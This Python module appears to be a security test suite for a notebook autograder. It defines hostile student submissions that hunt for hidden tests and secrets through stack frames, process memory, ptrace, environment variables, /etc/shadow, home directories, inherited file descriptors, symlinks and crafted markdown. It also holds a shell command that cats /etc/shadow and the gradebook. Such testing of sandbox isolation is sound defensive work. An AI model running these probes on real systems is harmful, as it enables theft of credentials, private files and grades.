"""Attacks on secrets: expected values, test source, other people's files, the environment.

What an attack finds it prints, or raises from a probe: both end in the graded notebook, which
its author gets back.
"""

from .attack import RIGHT_LOOP, attack

# Looks for the harness's secrets and for names that only hidden tests have.
LOOK = """
import re

WORDS = ("HIDDEN" + " TESTS", "def des" + "cend", "def ref" + "erence", "diag" + "noses(state")

def look(text, where):
    text = text if isinstance(text, str) else repr(text)
    found = re.findall(CANARY + "[0-9a-f]{8,}", text)
    found += [word for word in WORDS if word in text]
    if found:
        raise obtained(f"{where}: {found[:3]}")
"""

# A wrong answer that calls `steal` when a probe calls it, and hands up what that raises.
STEALING = """
def DeepNetReLU(*_):
    steal()
    raise ValueError("nothing to be had")


def train(*_, **__):
    steal()
    raise ValueError("nothing to be had")
"""


def _inside(name: str, about: str, code: str, **more):
    """Steal from a cell and from within each probe."""
    both = f"{LOOK}\n{code}\ntry:\n    steal()\nexcept RuntimeError as error:\n    print(error)\n"
    return attack(name, about, both, net=STEALING, loop="", **more)


ATTACKS = [
    _inside(
        "frames",
        "every frame of every thread, and the globals of their functions",
        """
import sys

def steal():
    for frame in sys._current_frames().values():
        while frame is not None:
            for place in (frame.f_locals, frame.f_globals):
                for name, value in list(place.items()):
                    if name in ("expected", "wanted", "reference", "descend", "diagnoses", "checks",
                                "tests", "bundle", "judge"):
                        raise obtained(f"variable {name} of {frame.f_code.co_name}")
                    if isinstance(value, str) and name not in ("LOOK", "source", "raw_cell"):
                        look(value, f"{frame.f_code.co_name}.{name}")
            look(repr(frame.f_code.co_consts), frame.f_code.co_name)
            frame = frame.f_back
""",
    ),
    _inside(
        "garbage",
        "everything that the garbage collector knows: functions, modules, texts",
        """
import gc, sys, types

def steal():
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing.__name__ in ("descend", "diagnoses"):
            raise obtained(thing.__name__)
        if type(thing) is dict:
            for value in list(thing.values()):
                if type(value) is str and "steal()" not in value:
                    look(value, "a dict")
    for name in sys.modules:
        if name.startswith("nmautils.grading.") and name.rsplit(".")[-1] in (
                "judge", "pool", "worker", "grader", "assignment"):
            raise obtained(f"module {name} in the kernel")
""",
    ),
    _inside(
        "history",
        "In, Out, the history data base, the name space and attributes of the kernel",
        """
def steal():
    shell = get_ipython()
    texts = [*map(str, shell.user_ns.get("In", [])), *map(str, shell.user_ns.get("Out", {}))]
    texts += [str(row) for row in shell.history_manager.get_range(output=True)]
    kernel = shell.kernel
    texts += [repr(kernel.get_parent()), repr(vars(kernel)), repr(vars(kernel.session))]
    for text in texts:
        if "steal()" not in text:
            look(text, "history")
""",
    ),
    _inside(
        "own_memory",
        "the whole address space of the process, through /proc/self/mem",
        """
def steal():
    pattern = re.compile(CANARY.encode() + rb"[0-9a-f]{8,}|def des" + rb"cend\\(")
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            if " rw-p " not in line or "[v" in line:
                continue
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if end - start > 2**26:
                continue
            try:
                memory.seek(start)
                found = pattern.search(memory.read(end - start))
            except OSError:
                continue
            if found:
                raise obtained(found[0])
""",
    ),
    _inside(
        "environment",
        "environment variables, its own and those of every process in sight",
        """
import glob, os

def steal():
    look(repr(dict(os.environ)), "environment")
    for name in os.environ:
        if re.search("TOKEN|SECRET|PASSW|KEY|PYTEST|SSH|AWS", name):
            raise obtained(name)
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            look(open(path, "rb").read().decode(errors="replace"), path)
        except OSError:
            pass
    if os.path.exists("/proc/@pid@/environ") and len(glob.glob("/proc/[0-9]*")) > 60:
        raise obtained("processes of the machine are in sight")
""",
    ),
    _inside(
        "memory_of_others",
        "memory of the parent, of process 1 and of the grader: /proc, ptrace, process_vm_readv",
        """
import ctypes, glob, os

libc = ctypes.CDLL(None, use_errno=True)

def steal():
    for path in glob.glob("/proc/[0-9]*"):
        pid = int(path.split("/")[-1])
        if pid == os.getpid():
            continue
        for name in ("mem", "maps", "environ", "root/etc/hostname", "cwd/course.toml", "auxv"):
            try:
                with open(f"{path}/{name}", "rb") as file:
                    if name != "mem" and file.read(10):
                        raise obtained(f"{path}/{name}") if name in ("maps", "auxv") else OSError
            except OSError:
                pass
        if libc.ptrace(16, pid, 0, 0) == 0:
            raise obtained(f"ptrace of {pid}")
    for pid in (1, os.getppid(), @pid@):
        if pid > 0 and pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:
            raise obtained(f"ptrace of {pid}")
""",
    ),
    _inside(
        "home",
        "files of the instructor's home, by name, by ~ and by the password file",
        """
import glob, os, sys
import nmautils

# Where Python and the course's library are installed, which is no secret.
public = {sys.prefix, sys.base_prefix, os.path.dirname(nmautils.__file__)}

def steal():
    homes = {"@home@", os.path.expanduser("~"), "/root", *glob.glob("/home/*")}
    for home in homes:
        for folder, inside, names in os.walk(home):
            inside[:] = [name for name in inside if os.path.join(folder, name) not in public]
            for name in names[:100]:
                try:
                    look(open(os.path.join(folder, name), errors="replace").read(10**6), folder)
                except OSError:
                    pass
                if home == "/root" and not name.startswith("."):
                    raise obtained(f"{folder}/{name}")
""",
    ),
    _inside(
        "course",
        "the grade book, the source with its hidden tests, the solutions, other hand-ins",
        """
import glob, os

def steal():
    for path in ("@course@/gradebook.db", "@other@", "@course@/course.toml",
                 *glob.glob("@course@/**", recursive=True)):
        if os.path.exists(path):
            raise obtained(path)
    for root in ("@nmautils@/..", os.getcwd(), "/"):
        for name in ("source", "solutions", "submitted", "gradebook.db", "release", "tests"):
            if os.path.exists(os.path.join(root, name)):
                raise obtained(os.path.join(root, name))
""",
    ),
    _inside(
        "system_files",
        "shadow passwords, kernel memory, service sockets, host name and mounts",
        """
import glob, os

def steal():
    for path in ("/etc/shadow", "/etc/ssh", "/proc/kcore", "/dev/mem", "/dev/sda", "/dev/vda",
                 "/var/run/docker.sock", "/run/systemd/private", "/etc/passwd", "/etc/hosts",
                 "/proc/1/root/etc/shadow", "/sys/kernel/security", "/sys/class/net/eth0"):
        try:
            if os.path.isdir(path) and os.listdir(path) or open(path, "rb").read(1):
                raise obtained(path)
        except OSError:
            pass
    look(open("/proc/self/mountinfo").read(), "mounts")
""",
    ),
    _inside(
        "temporary_files",
        "files of others below /tmp, /var/tmp, /dev/shm and /run",
        """
import os

def steal():
    for top in ("@temporary@", "@memory@", "/tmp", "/var/tmp", "/dev/shm", "/run"):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    look(open(path, errors="replace").read(10**6), path)
                except OSError:
                    pass
""",
    ),
    _inside(
        "inherited_descriptors",
        "files and sockets that were open in the parent",
        """
import os, stat

def steal():
    for name in os.listdir("/proc/self/fd"):
        number = int(name)
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        look(target, "descriptor")
        if stat.S_ISDIR(mode):
            for way in (".", "..", "../../etc"):
                try:
                    inside = os.listdir(os.open(way, os.O_RDONLY, dir_fd=number))
                except OSError:
                    continue
                if not target.startswith(("/proc", "/usr", "/tmp")):
                    raise obtained(f"folder {target}: {inside[:3]}")
        if stat.S_ISREG(mode) and not target.startswith(("/usr", "/tmp", "/dev", "/memfd",
                                                          "@packages@", "@nmautils@")):
            raise obtained(f"file {target}")
        if "/mnt:[" in target or "/pid:[" in target or "/net:[" in target:
            raise obtained(f"name space {target}")
        if stat.S_ISFIFO(mode) and number > 2:
            os.set_blocking(number, False)
            try:
                look(os.read(number, 10**6).decode(errors="replace"), target)
            except OSError:
                pass
""",
    ),
    _inside(
        "seed_of_the_tests",
        "draws the inputs of the tests before they come, from a seed found in the process",
        """
import sys

def steal():
    seeds, frame = set(), sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if isinstance(value, int) and not isinstance(value, bool) and value >= 0:
                seeds.add(value)
        frame = frame.f_back
    seeds |= {torch.initial_seed()}
    for name in ("MT19937",):
        seeds.add(int(np.random.get_state()[1][0]))
    caller = sys._getframe(2).f_locals if sys._getframe(2) else {}
    state = caller.get("state")
    if state is not None and "0.weight" in state:
        for seed in seeds:
            size = tuple(state["0.weight"].shape)
            drawn = np.random.default_rng(seed).standard_normal(size) / size[1] ** 0.5
            if np.allclose(state["0.weight"], drawn, atol=1e-6):
                raise obtained(f"the seed of the tests, {seed}")
""",
    ),
    attack(
        "shell_commands",
        "magics that read, list and run",
        LOOK
        + """
lines = !cat @home@/* @course@/gradebook.db @other@ /etc/shadow 2>/dev/null | strings
try:
    look("\\n".join(lines), "!cat")
except RuntimeError:
    pass
%system ls -la @course@ @home@ /root
%load_ext autoreload
""",
        last="get_ipython().run_cell_magic('bash', '', 'cat @home@/* @other@; env; ls /root')",
    ),
    attack(
        "links",
        "links beside the notebook, in the hope that the grader follows them when it copies",
        """
import os

for number, target in enumerate(("@home@", "@course@/gradebook.db", "@other@", "/etc/shadow")):
    for folder in (".", "/tmp"):
        try:
            os.symlink(target, f"{folder}/link{number}.ipynb")
            os.link(target, f"{folder}/hard{number}.ipynb")
        except OSError:
            pass
try:
    os.mkfifo("/tmp/tutorial1_decoding.ipynb")
except OSError:
    pass
""",
        last="from IPython.display import Image\nImage(filename='/tmp/link0.ipynb', format='png')",
    ),
    attack(
        "crafted_markdown",
        "text cells that would fetch or show files when the feedback page is made",
        change=lambda nb, ground: _markdown(nb, ground),
        loop=RIGHT_LOOP,
        kept=6,
    ),
]


def _markdown(nb, ground):
    from nbformat.v4 import new_markdown_cell

    for path in (f"{ground.home}/secret.txt", ground.other, f"{ground.course}/gradebook.db"):
        text = (
            f"![x]({path}) <img src='file://{path}'> <iframe src='{path}'></iframe>"
            f"<script src='{path}'></script> {{% include '{path}' %}} ![a](attachment:{path})"
        )
        nb.cells.append(new_markdown_cell(text, attachments={path: {"image/png": "AAAA"}}))
